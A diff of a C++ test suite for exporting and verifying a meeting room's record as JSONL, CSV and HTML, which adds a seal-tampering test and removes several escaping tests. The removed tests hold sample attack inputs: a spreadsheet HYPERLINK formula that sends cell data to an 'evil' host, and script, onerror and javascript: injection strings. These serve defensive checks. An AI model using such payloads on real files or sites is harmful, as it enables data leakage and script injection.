@@ -1,72 +1,16 @@
-// Exports of a room's record, as they are written and as they are checked.
+// Exports of a room's record that can be verified, and what is found in them once they were changed.
 #include <rapidcheck/catch.h>
 
 #include <catch2/catch.hpp>
 
+#include "exported.hpp"
 #include "record/backup_check.hpp"
 #include "record/export_check.hpp"
-#include "record/telling.hpp"
-#include "written_log.hpp"
 
 using namespace plenaria;
 using namespace plenaria::minutes;
 
 namespace {
-
-const Dialogue& dialogue() {
-  static const Dialogue kOne = [] {
-    Dialogue one;
-    one.id = kDialogue;
-    one.title = {{"en", "A test"}, {"es", "Una prueba"}};
-    one.languages = {"en", "es"};
-    one.kinds = {{"statement", {{"en", "Statement"}, {"es", "Declaración"}}}};
-    one.groups = {{"academia", {{"en", "Academia"}, {"es", "Academia"}}}};
-    one.themes = {{"one", {{"en", "One"}, {"es", "Uno"}}}};
-    Meeting meeting;
-    meeting.id = "only";
-    meeting.title = {{"en", "Only"}};
-    meeting.venue = {{"en", "Here"}};
-    meeting.starts = "2018-03-26";
-    meeting.ends = "2018-03-27";
-    meeting.time_zone = "Europe/Zurich";
-    RoomPlan plan;
-    plan.id = RoomId("hall");
-    plan.title = {{"en", "The hall"}, {"es", "La sala"}};
-    meeting.rooms = {plan};
-    one.meetings = {meeting};
-    return one;
-  }();
-  return kOne;
-}
-
-using Make = std::unique_ptr<ExportWriter> (*)(const ExportSubject&, Sink);
-
-std::string exported(const WrittenLog& log, Audience audience, Make make = jsonl_export,
-                     const std::string& language = "en", const std::optional<RecordKey>& key = record_key()) {
-  const bool desk = audience == Audience::desk;
-  ExportAbout about{kDialogue,
-                    RoomId("hall"),
-                    audience,
-                    log.head.epoch,
-                    desk ? log.head.seq : log.head.public_seq,
-                    desk ? log.head.hash : log.head.public_hash,
-                    log.now + std::chrono::seconds(4007),
-                    std::nullopt,
-                    {}};
-  if (key) about.keys = keys_of(*key);
-  for (const auto& head : log.signed_heads)
-    if (head.audience == audience) about.signed_head = head;
-  const Meeting& meeting = dialogue().meetings.front();
-  const ExportSubject subject{dialogue(), meeting,  meeting.rooms.front(),         log.room,
-                              about,      language, "https://dialogue.example.org"};
-  std::string file;
-  const auto writer = make(subject, [&file](std::string_view bytes) { file += bytes; });
-  writer->begin();
-  Telling telling(log.room, audience, *writer, [&](Seq seq) { return log.entries[seq - 1].body; });
-  for (const auto& entry : log.entries) telling.tell(entry);
-  writer->end(key);
-  return file;
-}
 
 std::unique_ptr<ExportCheck> checked(const std::string& file, const std::vector<PublicKey>& keys = {},
                                      const std::vector<SignedHead>& kept = {}) {
@@ -129,21 +73,6 @@ void replace(std::string& text, const std::string& what, const std::string& by) 
   const auto at = text.find(what);
   REQUIRE(at != std::string::npos);
   text.replace(at, what.size(), by);
-}
-
-bool tells(const std::string& text, const std::string& what) { return text.find(what) != std::string::npos; }
-
-WrittenLog some_log(Rules rules = {}) {
-  WrittenLog log(rules);
-  log.submit("Good morning.");
-  log.withdraw(log.submit("Never mind.", "bruno"));
-  const auto third = log.submit("To be forgotten.", "carla");
-  log.submit("Waiting.", "delia", false);
-  log.erase(third);
-  log.renew("epoch-2");
-  log.submit("After the change.");
-  log.sign();
-  return log;
 }
 
 WrittenLog random_log() {
@@ -216,6 +145,17 @@ TEST_CASE("any random export holds, and any random edit of the file is found") {
       if (fault(edited).empty()) RC_FAIL("not found: " + edited);
     }
   });
+}
+
+TEST_CASE("a file whose seal names a key that the file does not is no file as it was written") {
+  auto lines = lines_of(exported(some_log(), Audience::public_));
+  const auto at = lines.back().find("\"key\":\"") + 7;
+  lines.back()[at] = lines.back()[at] == 'A' ? 'B' : 'A';
+  std::string edited;
+  for (const auto& line : lines) edited += line + "\n";
+  CHECK_FALSE(fault(edited).empty());
+  CHECK(fault(edited, keys_of(record_key())).empty());
+  CHECK_FALSE(unjudged(edited, keys_of(record_key())).empty());
 }
 
 TEST_CASE("an edit with a new seal is found by what the lines themselves say") {
@@ -359,30 +299,6 @@ TEST_CASE(
   for (const char* gone : {"Never mind", "To be forgotten", "carla"}) CHECK_FALSE(tells(desk, gone));
 }
 
-TEST_CASE("without attribution no byte of a public export tells the author or the exact time") {
-  Rules rules;
-  rules.attribution = Attribution::none;
-  const WrittenLog log = some_log(rules);
-  for (const Make make : {jsonl_export, csv_export, html_export}) {
-    const std::string file = exported(log, Audience::public_, make);
-    for (const auto& entry : log.entries) {
-      const auto decoded = decode_header(entry.header);
-      REQUIRE(decoded.has_value());
-      if (std::holds_alternative<EpochChanged>(decoded->entry.event)) continue;
-      CHECK_FALSE(tells(file, rfc3339(decoded->entry.at).substr(14, 9)));
-      CHECK_FALSE(tells(file, std::to_string(decoded->entry.at.time_since_epoch().count())));
-      if (const auto* submitted = std::get_if<InterventionSubmitted>(&decoded->entry.event)) {
-        CHECK_FALSE(tells(file, submitted->author.text()));
-        CHECK_FALSE(tells(file, submitted->key.text()));
-        CHECK_FALSE(tells(file, submitted->content.text()));
-      }
-      if (entry.body)
-        if (const auto body = decode_body(*entry.body)) CHECK_FALSE(tells(file, body->author_salt));
-    }
-    for (const char* who : {"Name of", "Delegation of", "ana", "academia"}) CHECK_FALSE(tells(file, who));
-  }
-}
-
 TEST_CASE("a line that cannot be read is told in one sentence with one full stop") {
   WrittenLog log;
   log.submit("First.");
@@ -432,81 +348,4 @@ TEST_CASE("a room of which the public has seen nothing is exported as no entries
   auto lines = lines_of(file);
   replace(lines[0], Digest().text(), sha256("another").text());
   CHECK(fault(sealed_anew(lines)) == "The first line of the file names another newest entry than the file has.");
-}
-
-TEST_CASE("a table has a row for each intervention, and nothing in it is a formula") {
-  WrittenLog log;
-  log.submit("=HYPERLINK(\"http://example.org\",\"click\")");
-  log.submit("two\nlines, \"quoted\"");
-  log.submit("+1", "@evil");
-  log.withdraw(log.submit("gone"));
-  const std::string file = exported(log, Audience::public_, csv_export);
-  CHECK(file.starts_with("\xEF\xBB\xBF\"seq\",\"at\",\"kind\""));
-  CHECK(tells(file, ",\"'=HYPERLINK(\"\"http://example.org\"\",\"\"click\"\")\","));
-  CHECK(tells(file, ",\"two\nlines, \"\"quoted\"\"\","));
-  CHECK(tells(file, ",\"'+1\","));
-  CHECK(tells(file, ",\"\",\"withdrawn\",\"\",\"\",\"\",\"\",\"\",\"\",\"\","));
-  CHECK(std::count(file.begin(), file.end(), '\r') == 5);
-}
-
-TEST_CASE("a table is free of formulas also where cells end at semicolons, tabs or line breaks") {
-  const std::string ordinary = "Costs: 5-7 days; see \"annex\" (a = b), write to ana@example.org\nand so on.";
-  WrittenLog log;
-  log.submit("Thank you;=HYPERLINK(\"http://evil/?\"&A1);and\n=1+1;x\n@SUM(1);y");
-  log.submit("a\t-2\r\n+3; \"=4\";\t=5\n\"\"@6;＝7;\n\n=8;;=9", "@who;=10");
-  log.submit(ordinary);
-  log.submit("First:\n- item");
-  const std::string file = exported(log, Audience::public_, csv_export);
-  std::string cell;
-  int cells = 0;
-  for (const char c : file + "\n") {
-    if (std::string_view(";\t\r\n").find(c) == std::string_view::npos) {
-      cell += c;
-      continue;
-    }
-    const auto first = std::min(cell.find_first_not_of(" \""), cell.size());
-    const std::string seen = cell.substr(first);
-    for (const char* sign : {"=", "+", "-", "@", "＝", "＋", "－", "＠"}) {
-      INFO(cell);
-      CHECK_FALSE(seen.starts_with(sign));
-    }
-    ++cells;
-    cell.clear();
-  }
-  CHECK(cells > 20);
-  CHECK(tells(file, "\"Thank you;'=HYPERLINK(\"\"http://evil/?\"\"&A1);and\n'=1+1;x\n'@SUM(1);y\""));
-  CHECK(tells(file, "Name of @who;'=10"));
-  CHECK(tells(file, "Costs: 5-7 days; see \"\"annex\"\" (a = b), write to ana@example.org\nand so on."));
-  CHECK(tells(file, "\"First:\n'- item\""));
-}
-
-TEST_CASE("a page shows every text as it was written, whatever it tries to be") {
-  const std::string hostile = "<script>alert(1)</script> \"'&lt; {{words.record}} {{{style}}} </div><b>";
-  WrittenLog log;
-  log.submit(hostile, "<img src=x onerror=alert(1)>");
-  const std::string page = exported(log, Audience::public_, html_export, "es");
-  CHECK_FALSE(tells(page, "<script"));
-  CHECK_FALSE(tells(page, "<img"));
-  CHECK_FALSE(tells(page, "<b>"));
-  CHECK(tells(
-      page,
-      "&lt;script&gt;alert(1)&lt;/script&gt; &quot;&apos;&amp;lt; {{words.record}} {{{style}}} &lt;/div&gt;&lt;b&gt;"));
-  CHECK(tells(page, "<html lang=\"es\" dir=\"ltr\">"));
-  CHECK(tells(page, "<title>La sala – Acta – Una prueba</title>"));
-  CHECK(tells(page, "lang=\"en\" dir=\"auto\""));
-  CHECK(tells(page, log.head.public_hash.text()));
-}
-
-TEST_CASE("a page links to web addresses alone") {
-  WrittenLog log;
-  log.submit("See there.");
-  // As a body that some other program wrote may have it.
-  auto body = decode_body(*log.entries[1].body);
-  REQUIRE(body);
-  body->sources = {"javascript:alert(1)", "https://example.org/good"};
-  log.entries[1].body = encode_body(*body);
-  const std::string page = exported(log, Audience::public_, html_export);
-  CHECK_FALSE(tells(page, "href=\"javascript"));
-  CHECK(tells(page, "<li>javascript:alert(1)</li>"));
-  CHECK(tells(page, "<a href=\"https://example.org/good\" rel=\"noreferrer\">"));
 }
